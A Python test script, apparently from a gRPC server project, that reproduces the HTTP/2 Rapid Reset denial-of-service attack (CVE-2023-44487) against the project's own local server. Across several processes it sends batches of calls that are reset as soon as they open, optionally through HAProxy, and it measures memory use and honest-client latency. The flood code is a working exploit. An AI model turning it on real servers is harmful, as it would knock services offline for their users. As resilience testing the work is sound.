# SPDX-License-Identifier: Apache-2.0
"""Calls that are reset as soon as they begin (CVE-2023-44487), as fast as one can send them, beside an honest client."""

import contextlib
import dataclasses
import multiprocessing
import pathlib
import select
import socket
import struct
import sys
import time

import http2
import victim

sys.path.append(str(victim.SOURCE_DIR / "tests/e2e/support"))

# By the name of --method: path, and whether a message is sent before the reset.
METHODS = {
    "known": ("/rivulet.v1.InferenceService/Generate", False),
    "message": ("/rivulet.v1.InferenceService/ListModels", True),
    "unknown": ("/no.such.Service/Method", False),
}
BATCH = 500  # calls that one send carries
PATIENCE = 30  # seconds of an honest call: more than the longest should take
STREAMS = 1 << 29  # of one connection: what its ids have room for


@dataclasses.dataclass
class Attack:
    """What the attacker's processes do."""

    address: tuple[str, int]
    method: str  # of METHODS
    seconds: float
    source: str = "127.0.0.1"  # the attacker's own address
    late: bool = False  # resets a batch of calls once all of them have begun, not each at once: a proxy passes them on before

    def connect(self) -> socket.socket:
        """Errors: OSError."""
        connection = socket.create_connection(self.address, 5, (self.source, 0))
        try:
            connection.sendall(http2.PREFACE + http2.frame(http2.SETTINGS, 0, 0))
        except OSError:
            connection.close()
            raise
        connection.setblocking(False)
        return connection

    def calls(self, first: int) -> bytes:
        """BATCH calls, each of them reset at once; `first` is the id of the first one's stream."""
        path, has_message = METHODS[self.method]
        begin = [http2.frame(http2.HEADERS, http2.END_HEADERS, 0, http2.call_headers(path))]
        if has_message:
            begin.append(http2.frame(http2.DATA, 0, 0, http2.message(b"")))
        end = [http2.rst_stream(0)]
        streams = [struct.pack(">I", stream) for stream in range(first, first + 2 * BATCH, 2)]
        rounds = (begin, end) if self.late else (begin + end,)
        return b"".join(one[:5] + stream + one[9:] for frames in rounds for stream in streams for one in frames)


def storm(attack: Attack, stop, sent, closed) -> None:
    """One connection at a time, opened anew whenever the server closes it; counts calls in `sent`, closed connections in `closed`."""
    end = time.monotonic() + attack.seconds
    while time.monotonic() < end and not stop.is_set():
        try:
            one_connection(attack, end, stop, sent)
        except OSError:
            closed.value += 1
            time.sleep(0.01)


def one_connection(attack: Attack, end: float, stop, sent) -> None:
    """Errors: OSError once the server has closed it."""
    with attack.connect() as connection:
        for first in range(1, STREAMS, 2 * BATCH):
            waiting = memoryview(attack.calls(first))
            while waiting:
                if time.monotonic() > end or stop.is_set():
                    return
                readable, writable, _ = select.select([connection], [connection], [], 0.2)
                if readable and not connection.recv(1 << 16):
                    raise ConnectionError("closed by the server")
                if writable:
                    waiting = waiting[connection.send(waiting) :]
            sent.value += BATCH


class Storm:
    """`connections` processes that attack while a `with` statement runs; `sent` calls, `closed` connections."""

    def __init__(self, attack: Attack, connections: int):
        processes = multiprocessing.get_context("fork")  # before any channel of gRPC is open
        self.stop = processes.Event()
        self.counts = [(processes.Value("q", 0), processes.Value("q", 0)) for _ in range(connections)]
        self.processes = [processes.Process(target=storm, args=(attack, self.stop, *counts), daemon=True) for counts in self.counts]

    @property
    def sent(self) -> int:
        return sum(sent.value for sent, _ in self.counts)

    @property
    def closed(self) -> int:
        return sum(closed.value for _, closed in self.counts)

    def runs(self) -> bool:
        return any(process.is_alive() for process in self.processes)

    def __enter__(self) -> "Storm":
        for process in self.processes:
            process.start()
        return self

    def __exit__(self, *exception) -> None:
        self.stop.set()
        for process in self.processes:
            process.join(10)
            process.kill()


def honest_calls(channel, timeout: float, until) -> dict:
    """Small replies, one after another, while `until()` is false: how many came, how many failed, how long they took."""
    import balancer  # of tests/e2e/support: grpc and the stubs

    took, failed, longest = [], {}, 0.0
    while not until():
        begin = time.monotonic()
        try:
            list(balancer.stub(channel).Generate(balancer.request(1, 4), timeout=timeout))
            took.append(time.monotonic() - begin)
        except balancer.grpc.RpcError as error:
            failed[error.code().name] = failed.get(error.code().name, 0) + 1
        longest = max(longest, time.monotonic() - begin)
    took.sort()
    milliseconds = {f"p{part}_ms": round(1000 * took[len(took) * part // 100], 1) for part in (50, 99) if took}
    return {"calls": len(took), "failed": failed, **milliseconds, "longest_ms": round(1000 * longest, 1)}


def peak_while(storm: Storm, process: victim.Victim, ceiling_mib: float):
    """A condition for `honest_calls`: true once the storm is over, or the memory of `process` beyond the ceiling."""

    def over() -> bool:
        return not storm.runs() or (process.rss_mib() or 0) > ceiling_mib

    return over


def memory_of(pid: int) -> float | None:
    """The peak of a process, in MiB."""
    process = victim.Victim("")
    process.pid = pid
    return process.peak_rss_mib()


def main() -> None:
    parser = victim.arguments(__doc__)
    parser.add_argument("--method", choices=METHODS, default="known")
    parser.add_argument("--connections", type=int, choices=range(1, 17), default=1, metavar="1..16")
    parser.add_argument("--seconds", type=float, default=6, help="at most 60")
    parser.add_argument("--ceiling-mib", type=float, default=1500, help="stops where the server's memory goes beyond")
    parser.add_argument("--late", action="store_true", help="begin 500 calls, then reset them")
    parser.add_argument("--haproxy", action="store_true", help="attack through HAProxy, as deploy/haproxy configures it")
    parsed = parser.parse_args()
    with contextlib.ExitStack() as stack:
        server = stack.enter_context(victim.Victim.of(parsed))
        address, front = server.address, None
        import balancer

        if parsed.haproxy:
            front = stack.enter_context(balancer.Balancer(server.target))
            address = victim.loopback(front.target)
        attack = Attack(address, parsed.method, min(parsed.seconds, 60), "127.0.0.2", parsed.late)
        before = server.rss_mib()
        with Storm(attack, parsed.connections) as running:
            with balancer.grpc.insecure_channel(f"{address[0]}:{address[1]}") as channel:
                honest = honest_calls(channel, PATIENCE, peak_while(running, server, parsed.ceiling_mib))
        with balancer.grpc.insecure_channel(f"{address[0]}:{address[1]}") as channel:
            end = time.monotonic() + 3
            after = honest_calls(channel, PATIENCE, lambda: time.monotonic() > end)
        victim.report(
            attack=pathlib.Path(__file__).stem,
            method=parsed.method,
            connections=parsed.connections,
            late=parsed.late,
            haproxy=parsed.haproxy,
            sent=running.sent,
            closed=running.closed,
            before_mib=before,
            peak_mib=server.peak_rss_mib(),
            after_mib=server.rss_mib(),
            honest=honest,
            honest_after=after,
            haproxy_peak_mib=front and memory_of(front.process.pid),
        )


if __name__ == "__main__":
    main()
